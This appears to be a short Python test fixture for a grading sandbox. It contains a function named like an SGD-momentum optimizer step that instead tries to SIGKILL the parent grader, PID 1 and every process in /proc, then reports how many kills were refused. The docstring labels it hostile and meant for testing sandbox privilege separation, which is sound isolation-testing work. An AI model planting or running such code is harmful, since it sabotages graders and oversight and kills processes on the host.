"""Hostile: kills the grader. Only safe to run where the sandbox switches to the student user."""
import os
import signal


def sgd_momentum(w, dw, config=None):
    refused = 0
    for pid in [os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
        if pid in (os.getpid(), os.getpgid(0)):
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except PermissionError:
            refused += 1
        except ProcessLookupError:
            pass
    return w, {"refused": refused}
